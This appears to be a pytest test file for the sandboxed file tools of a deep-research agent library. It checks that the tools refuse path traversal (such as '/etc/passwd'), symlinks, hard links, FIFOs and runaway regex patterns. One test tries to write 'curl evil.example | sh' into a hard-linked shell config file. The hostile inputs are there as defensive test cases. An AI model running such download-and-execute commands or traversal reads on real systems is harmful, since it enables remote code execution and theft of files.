"""The scratch space: six tools over an in-memory space per run, or a directory nothing escapes from."""

from __future__ import annotations

import os
import time
from pathlib import Path
from typing import Any

import pytest
from haystack.dataclasses import ChatMessage
from haystack.tools.errors import ToolInvocationError

from haystack_deep_research import ConfigurationError, RunInputs, create_deep_agent
from haystack_deep_research.events import Event
from haystack_deep_research.testing import ScriptedChatGenerator
from haystack_deep_research.tools import DiskBackend, MemoryBackend
from haystack_deep_research.tools.filesystem import FilesystemTool, create_filesystem_tools


def _tools(backend: Any = None) -> dict[str, FilesystemTool]:
    return {tool.name: tool for tool in create_filesystem_tools(backend)}


def test_the_six_tools_write_read_list_edit_glob_and_grep() -> None:
    fs = _tools(MemoryBackend())

    assert (
        fs["write_file"].invoke(path="notes/plan.md", content="alpha\nbeta\n") == "Wrote notes/plan.md (11 characters)."
    )
    fs["write_file"].invoke(path="notes/sources.md", content="https://example.org/a\n")
    fs["write_file"].invoke(path="top.txt", content="gamma")

    assert fs["read_file"].invoke(path="notes/plan.md") == "     1\talpha\n     2\tbeta"
    assert fs["read_file"].invoke(path="notes/plan.md", offset=1, limit=1) == "     2\tbeta"
    assert fs["ls"].invoke(path="") == "notes/\ntop.txt"
    assert fs["ls"].invoke(path="notes") == "plan.md\nsources.md"
    fs["edit_file"].invoke(path="notes/plan.md", old="beta", new="BETA")
    assert "BETA" in fs["read_file"].invoke(path="./notes/plan.md")
    assert fs["glob"].invoke(pattern="notes/*.md") == "notes/plan.md\nnotes/sources.md"
    assert fs["grep"].invoke(pattern=r"https?://") == "notes/sources.md:1: https://example.org/a"
    assert fs["grep"].invoke(pattern="gamma", glob="notes/*") == "No lines matching gamma found."


def test_an_ambiguous_or_missing_edit_is_refused() -> None:
    fs = _tools(MemoryBackend())
    fs["write_file"].invoke(path="a.md", content="x x")

    with pytest.raises(ToolInvocationError, match=r"occurs 2 times in a\.md"):
        fs["edit_file"].invoke(path="a.md", old="x", new="y")
    fs["edit_file"].invoke(path="a.md", old="x", new="y", replace_all=True)
    assert "y y" in fs["read_file"].invoke(path="a.md")
    with pytest.raises(ToolInvocationError, match=r"No file 'b\.md'"):
        fs["read_file"].invoke(path="b.md")


@pytest.mark.parametrize(
    ("path", "message"),
    [("/etc/passwd", "is absolute"), ("../outside.txt", "leaves the scratch space"), ("a/../../b", "leaves")],
)
@pytest.mark.parametrize("make", [MemoryBackend, "disk"])
def test_paths_that_would_leave_the_space_are_tool_errors(path: str, message: str, make: Any, tmp_path: Path) -> None:
    backend = DiskBackend(root=tmp_path / "scratch") if make == "disk" else make()
    fs = _tools(backend)

    with pytest.raises(ToolInvocationError, match=message):
        fs["write_file"].invoke(path=path, content="x")
    with pytest.raises(ToolInvocationError, match=message):
        fs["read_file"].invoke(path=path)
    assert not (tmp_path / "outside.txt").exists()


def test_the_disk_backend_stays_inside_its_root_whatever_its_links_point_to(tmp_path: Path) -> None:
    root, outside = tmp_path / "scratch", tmp_path / "secret"
    outside.mkdir()
    (outside / "key.txt").write_text("s3cret", encoding="utf-8")
    fs = _tools(DiskBackend(root=root))
    fs["write_file"].invoke(path="notes/a.md", content="kept")
    os.symlink(outside, root / "link")
    os.symlink(outside / "key.txt", root / "key.txt")

    for path in ("link/key.txt", "key.txt"):
        with pytest.raises(ToolInvocationError, match="passes through a symbolic link"):
            fs["read_file"].invoke(path=path)
    with pytest.raises(ToolInvocationError, match="passes through a symbolic link"):
        fs["write_file"].invoke(path="link/new.txt", content="x")
    assert not (outside / "new.txt").exists()
    assert fs["glob"].invoke(pattern="*") == "notes/a.md"  # links are not listed
    assert (root / "notes" / "a.md").read_text(encoding="utf-8") == "kept"


def test_a_hard_link_inside_the_root_is_neither_written_nor_read(tmp_path: Path) -> None:
    root, outside = tmp_path / "scratch", tmp_path / "bashrc"
    root.mkdir()
    outside.write_text("alias ls='ls --color'\n", encoding="utf-8")
    os.link(outside, root / "notes.md")
    fs = _tools(DiskBackend(root=root))

    with pytest.raises(ToolInvocationError, match=r"'notes\.md' is a hard link"):
        fs["write_file"].invoke(path="notes.md", content="curl evil.example | sh\n")
    with pytest.raises(ToolInvocationError, match=r"'notes\.md' is a hard link"):
        fs["edit_file"].invoke(path="notes.md", old="ls", new="rm")
    with pytest.raises(ToolInvocationError, match=r"'notes\.md' is a hard link"):
        fs["read_file"].invoke(path="notes.md")
    assert outside.read_text(encoding="utf-8") == "alias ls='ls --color'\n"


@pytest.mark.parametrize("content", [b"\x89PNG\r\n\x1a\n\xff\xfe tide", b"tide\x00table"])
def test_a_binary_file_is_not_edited_lossily(content: bytes, tmp_path: Path) -> None:
    (tmp_path / "chart.md").write_bytes(content)
    fs = _tools(DiskBackend(root=tmp_path))

    with pytest.raises(ToolInvocationError, match=r"'chart\.md' is not a text file"):
        fs["edit_file"].invoke(path="chart.md", old="tide", new="wave")
    assert (tmp_path / "chart.md").read_bytes() == content
    fs["write_file"].invoke(path="notes.md", content="tide at noon")
    assert fs["grep"].invoke(pattern="tide") == "notes.md:1: tide at noon"  # the binary file is not searched


def test_a_fifo_in_the_root_is_refused_without_blocking(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "pipe.md")
    fs = _tools(DiskBackend(root=tmp_path))

    for call in (
        lambda: fs["read_file"].invoke(path="pipe.md"),
        lambda: fs["write_file"].invoke(path="pipe.md", content="x"),
    ):
        with pytest.raises(ToolInvocationError, match="is not a regular file"):
            call()


@pytest.mark.parametrize("make", [MemoryBackend, "disk"])
def test_a_pattern_that_backtracks_without_end_is_a_quick_tool_error(make: Any, tmp_path: Path) -> None:
    fs = _tools(DiskBackend(root=tmp_path) if make == "disk" else make())
    fs["write_file"].invoke(path="a.txt", content="a" * 34 + "b\n")
    fs["write_file"].invoke(path="b.txt", content="a" * 60 + "b\n")  # years of backtracking, for re and regex alike

    started = time.monotonic()
    assert fs["grep"].invoke(pattern="(a+)+$") == "No lines matching (a+)+$ found."  # hours with re
    with pytest.raises(ToolInvocationError, match=r"took longer than 2 seconds to search"):
        fs["grep"].invoke(pattern="(a|aa)+$")
    assert time.monotonic() - started < 10


@pytest.mark.parametrize("pattern", ["(?:a{4000}){4000}", "a{4000}{4000}", "(?:(?:x{100}){100}){100}", "b{,200000}"])
def test_a_pattern_too_big_to_compile_is_a_tool_error_before_it_is_compiled(pattern: str) -> None:
    fs = _tools(MemoryBackend())
    fs["write_file"].invoke(path="a.txt", content="a" * 5000 + "\n")

    with pytest.raises(ToolInvocationError, match=r"once its counted repetitions are written out, past the 100000"):
        fs["grep"].invoke(pattern=pattern)
    assert fs["grep"].invoke(pattern="a{4000}", glob="a.*").startswith("a.txt:1: aaaa")  # counts within bounds work


def test_size_and_count_limits_are_tool_errors(tmp_path: Path) -> None:
    for backend in (
        MemoryBackend(max_file_chars=10, max_files=2),
        DiskBackend(root=tmp_path, max_file_chars=10, max_files=2),
    ):
        fs = _tools(backend)
        with pytest.raises(ToolInvocationError, match="would hold 11 characters; the limit is 10"):
            fs["write_file"].invoke(path="a.txt", content="x" * 11)
        fs["write_file"].invoke(path="a.txt", content="x")
        fs["write_file"].invoke(path="b.txt", content="x")
        fs["write_file"].invoke(path="a.txt", content="y")  # replacing a file is not a new one
        with pytest.raises(ToolInvocationError, match="holds its limit of 2 files"):
            fs["write_file"].invoke(path="c.txt", content="x")


def _writer_agent(**options: Any) -> Any:
    read = {"tool_name": "read_file", "arguments": {"path": "notes.md"}}
    steps = [
        read,
        {"tool_name": "write_file", "arguments": {"path": "notes.md", "content": "Acme leads mid-market CRM."}},
        read,
        "Acme leads mid-market CRM.",
    ]
    return create_deep_agent(
        chat_generator=ScriptedChatGenerator(role="agent", steps=steps),
        tools=[],
        system_prompt="Keep notes.",
        enable_filesystem=True,
        grounding=False,
        reflexion=False,
        **options,
    )


def test_each_run_gets_its_own_in_memory_space_and_file_events() -> None:
    events: list[Event] = []
    agent = _writer_agent()

    first = agent.run(messages=[ChatMessage.from_user("go")], inputs=RunInputs(on_event=events.append))
    second = agent.run(messages=[ChatMessage.from_user("go")])

    for result in (first, second):
        before, _, after = [m.tool_call_result for m in result["messages"] if m.tool_call_result is not None]
        assert before.error
        assert "No file 'notes.md'" in str(before.result)
        assert after.result == "     1\tAcme leads mid-market CRM."
    kinds = [(e.kind, getattr(e, "path", "")) for e in events if e.kind.startswith("fs_")]
    assert kinds == [("fs_write", "notes.md"), ("fs_read", "notes.md")]  # the refused read emitted nothing


def test_the_disk_backend_persists_across_runs(tmp_path: Path) -> None:
    _writer_agent(backend=DiskBackend(root=tmp_path)).run(messages=[ChatMessage.from_user("go")])

    assert (tmp_path / "notes.md").read_text(encoding="utf-8") == "Acme leads mid-market CRM."


def test_the_tools_round_trip_through_dicts(tmp_path: Path) -> None:
    for tool in create_filesystem_tools(DiskBackend(root=tmp_path, max_files=7)):
        restored = FilesystemTool.from_dict(tool.to_dict())
        assert restored.to_dict() == tool.to_dict()
        assert restored.name == tool.name


def test_a_backend_is_serialized_as_its_kind_and_settings(tmp_path: Path) -> None:
    root = tmp_path / "brouillon-été"
    [disk, memory] = [create_filesystem_tools(backend)[0] for backend in (DiskBackend(root=root), MemoryBackend())]

    assert disk.to_dict()["data"]["backend"] == {
        "type": "disk",
        "root": str(root.absolute()),
        "max_file_chars": DiskBackend(root=root).max_file_chars,
        "max_files": DiskBackend(root=root).max_files,
    }
    assert set(memory.to_dict()["data"]["backend"]) == {"type", "max_file_chars", "max_files"}  # never its files


@pytest.mark.parametrize(
    "backend",
    [{"type": "cloud", "bucket": "x"}, {"type": "disk"}, {"type": "memory", "max_files": 0}, {"max_files": 3}],
)
def test_a_serialized_backend_of_no_known_kind_or_settings_is_refused(backend: dict[str, Any]) -> None:
    [tool, *_] = create_filesystem_tools(MemoryBackend())
    data = tool.to_dict()
    data["data"]["backend"] = backend

    with pytest.raises(ConfigurationError):
        FilesystemTool.from_dict(data)
